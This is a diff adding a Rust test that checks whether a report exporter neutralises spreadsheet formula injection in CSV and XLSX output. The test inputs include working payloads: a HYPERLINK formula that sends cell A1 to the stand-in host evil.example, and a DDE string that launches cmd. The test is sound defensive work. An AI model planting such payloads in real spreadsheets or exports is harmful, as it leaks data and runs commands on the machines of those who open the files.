@@ -389,3 +389,45 @@ fn json_round_trips() {
     let back: QuarterlyReport = serde_json::from_slice(&to_json(&r)).unwrap();
     assert_eq!(back, r);
 }
+
+#[test]
+fn unit_names_that_are_formulas_stay_text_in_csv_and_xlsx() {
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Bấm vào đây\")",
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "@SUM(A1:A9)",
+        "\tXã Tab",
+        "\rXã CR",
+    ];
+    let rows = names
+        .iter()
+        .enumerate()
+        .map(|(i, name)| {
+            let code = format!("0720{i}");
+            count(
+                (&code, name, Level::Commune, Some("01")),
+                "dossiers_supported",
+                1,
+                2,
+                10.0,
+            )
+        })
+        .collect();
+    let r = report(rows);
+    let bytes = to_csv(&r);
+    let mut reader = csv::Reader::from_reader(&bytes[BOM.len()..]);
+    for (record, name) in reader.records().zip(names) {
+        let cell = record.unwrap()[1].to_string();
+        assert_eq!(cell, format!("'{name}"), "the CSV cell of {name:?}");
+    }
+    let back = from_csv(&bytes).unwrap();
+    assert_eq!(back.iter().map(|l| l.name.as_str()).collect::<Vec<_>>(), names);
+    let mut workbook = open(to_xlsx(&r).unwrap());
+    let sheets = workbook.sheet_names();
+    let communes = sheet(&mut workbook, sheets.last().unwrap());
+    let cells: Vec<String> = (XLSX_FIRST_DATA_ROW..XLSX_FIRST_DATA_ROW + names.len() as u32)
+        .map(|row| text(&communes, row, 1))
+        .collect();
+    assert_eq!(cells, names, "XLSX keeps each name as a string cell");
+}
